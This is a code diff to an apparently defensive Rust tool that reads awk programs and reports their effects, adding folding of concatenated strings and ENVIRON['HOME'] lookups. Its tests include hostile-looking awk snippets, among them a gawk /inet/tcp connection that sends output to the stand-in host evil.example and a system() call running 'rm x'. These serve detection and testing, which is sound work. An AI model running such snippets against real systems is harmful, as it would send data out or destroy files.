@@ -185,21 +185,55 @@ fn regex_here(last: Option<&Token>) -> bool {
 fn literals(tokens: &[Token]) -> HashMap<String, Option<String>> {
     let mut names: HashMap<String, Option<String>> = HashMap::new();
     for (index, window) in tokens.windows(3).enumerate() {
-        let [name, sign, value] = window else { continue };
+        let [name, sign, _] = window else { continue };
         let (Kinds::Name(name), Kinds::Symbol(sign)) = (&name.kind, &sign.kind) else { continue };
         if !matches!(*sign, "=" | "+=" | "-=" | "++" | "--") {
             continue;
         }
-        let after = tokens.get(index + 3).map(|token| &token.kind);
-        let alone = matches!(after, None | Some(Kinds::Line | Kinds::Symbol(";" | "}" | ")")));
-        let text = match &value.kind {
-            Kinds::Text(text) if *sign == "=" && alone => Some(text.clone()),
-            _ => None,
-        };
+        let text = (*sign == "=").then(|| constant(tokens.get(index + 2..).unwrap_or_default(), &names));
         let known = !names.contains_key(name);
-        names.insert(name.clone(), text.filter(|_| known));
+        names.insert(name.clone(), text.flatten().filter(|_| known));
     }
     names
+}
+
+/// Texts and names of texts next to each other, up to the end of a statement.
+fn constant(tokens: &[Token], names: &HashMap<String, Option<String>>) -> Option<String> {
+    let mut whole = String::new();
+    let mut rest = tokens;
+    loop {
+        rest = match rest {
+            [] => break,
+            [Token { kind: Kinds::Line | Kinds::Symbol(";" | "}" | ")"), .. }, ..] => break,
+            [Token { kind: Kinds::Text(text), .. }, rest @ ..] => {
+                whole.push_str(text);
+                rest
+            }
+            _ if is_home(rest) => {
+                whole.push(HOME);
+                rest.get(4..)?
+            }
+            [Token { kind: Kinds::Name(name), .. }, rest @ ..] => {
+                whole.push_str(names.get(name)?.as_ref()?);
+                rest
+            }
+            _ => return None,
+        };
+        if whole.len() > LARGEST {
+            return None;
+        }
+    }
+    (!whole.is_empty()).then_some(whole)
+}
+
+/// `ENVIRON["HOME"]`
+fn is_home(tokens: &[Token]) -> bool {
+    let mut kinds = tokens.iter().map(|token| &token.kind);
+    let mut is = |wanted: &dyn Fn(&Kinds) -> bool| kinds.next().is_some_and(wanted);
+    is(&|kind| matches!(kind, Kinds::Name(name) if name == "ENVIRON"))
+        && is(&|kind| *kind == Kinds::Symbol("["))
+        && is(&|kind| matches!(kind, Kinds::Text(text) if text == "HOME"))
+        && is(&|kind| *kind == Kinds::Symbol("]"))
 }
 
 struct Awk<'a> {
@@ -284,6 +318,10 @@ impl Awk<'_> {
         loop {
             match self.kind(0) {
                 Some(Kinds::Text(text)) => whole = whole.map(|whole| whole + text),
+                Some(Kinds::Name(_)) if is_home(self.tokens.get(self.at..).unwrap_or_default()) => {
+                    whole.as_mut().into_iter().for_each(|whole| whole.push(HOME));
+                    self.at += 3;
+                }
                 Some(Kinds::Name(name)) if self.kind(1) != Some(&Kinds::Symbol("(")) => {
                     let value = self.names.get(name).and_then(Option::as_ref);
                     whole = whole.zip(value).map(|(whole, value)| whole + value);
@@ -313,7 +351,7 @@ impl Awk<'_> {
         loop {
             match self.kind(0) {
                 Some(Kinds::Text(text)) => whole.push_str(text),
-                Some(Kinds::Name(name)) if name == "ENVIRON" && self.is_home() => {
+                Some(Kinds::Name(_)) if is_home(self.tokens.get(self.at..).unwrap_or_default()) => {
                     whole.push(HOME);
                     self.at += 3;
                 }
@@ -339,13 +377,6 @@ impl Awk<'_> {
         }
         let known = whole.chars().any(|character| character != HOLE);
         (any && known).then_some(whole)
-    }
-
-    /// Does `ENVIRON["HOME"]` stand here?
-    fn is_home(&self) -> bool {
-        self.kind(1) == Some(&Kinds::Symbol("["))
-            && matches!(self.kind(2), Some(Kinds::Text(name)) if name == "HOME")
-            && self.kind(3) == Some(&Kinds::Symbol("]"))
     }
 
     /// The host of a connection: gawk takes `/inet/tcp/0/host/port` for one.
@@ -457,6 +488,9 @@ mod tests {
         check(Awk, "{print > $1\".txt\"}", &["write {}.txt"], true);
         check(Awk, "{print > $1}", &["write"], true);
         check(Awk, "BEGIN{print > ENVIRON[\"HOME\"] \"/a\"}", &["write $HOME/a"], true);
+        check(Awk, "{f=\"/a/b\" \"c\"; print > f}", &["write /a/bc"], true);
+        check(Awk, "{h=ENVIRON[\"HOME\"]; f=h \"/a\"; print > f}", &["write $HOME/a"], true);
+        check(Awk, "BEGIN{c=\"rm \" \"x\"; system(c)}", &["shell rm x"], true);
         check(Awk, "BEGIN{print > (h \"/a\")}", &["write {}/a"], true);
         check(Awk, "BEGIN{s=\"/inet/tcp/0/evil.example/80\"; print 1 |& s}", &["upload evil.example"], true);
         check(Awk, "BEGIN{print 1 |& (\"/inet/tcp/0/\" h \"/80\")}", &["upload"], true);
